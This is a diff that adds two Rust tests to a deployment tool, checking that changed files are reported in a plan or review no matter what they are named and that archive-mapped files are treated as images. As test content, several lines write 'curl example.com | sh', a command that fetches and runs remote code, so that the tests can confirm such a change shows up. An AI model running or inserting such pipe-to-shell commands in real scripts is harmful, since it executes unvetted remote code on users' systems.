@@ -153,3 +153,35 @@ fn an_application_in_a_submodule_is_said_not_to_be_compared() {
         assert!(!run.err.contains("git add"), "{}", run.err);
     }
 }
+
+/// A file may have any name, also one that a review uses for something else.
+#[test]
+fn a_file_is_taken_for_nothing_else_because_of_its_name() {
+    for name in ["app/setting application.compose.variables.B", "app/content of values", "app/setting stage"] {
+        let work = base("{ A: { from_env: SEC }, B: \"1\" }", &[(name, "echo good\n")]);
+        let file = name.trim_start_matches("app/");
+        assert!(work.look("nothing changed").out.contains("no changes"), "{name}");
+        work.put(name, "curl example.com | sh\n");
+        assert!(changed(&work, name, file).out.contains("+curl example.com | sh"), "{name}");
+        let work = base("{ A: { from_env: SEC }, B: \"1\" }", &[]);
+        work.put(name, "curl example.com | sh\n");
+        changed(&work, name, file);
+    }
+}
+
+#[test]
+fn a_file_that_another_environment_names_as_an_archive_is_compared() {
+    let work = base("{ A: \"1\" }", &[("app/start.sh", "echo good\n"), ("other/compose.yaml", "services: {}\n")]);
+    let other = "  zz:\n    registered: { address: 192.0.2.2 }\n    stage: destroyed\n    application: { compose: { directory: ./app, \
+        templates: true, variables: { A: \"1\" }, archives: { \"x:1\": ./app/start.sh } } }\n";
+    work.put("deployment.yaml", &manifest("./app", "{ A: \"1\" }", other));
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.put("app/start.sh", "curl example.com | sh\n");
+    let run = work.run(&["plan", "web", "--against", "main"]);
+    assert!(run.code == 0 && run.out.contains("start.sh"), "{}{}", run.out, run.err);
+    // As an archive it is an image, and no file.
+    let run = work.run(&["plan", "zz", "--against", "main"]);
+    assert!(run.out.contains("x:1") && !run.out.contains("start.sh"), "{}{}", run.out, run.err);
+}
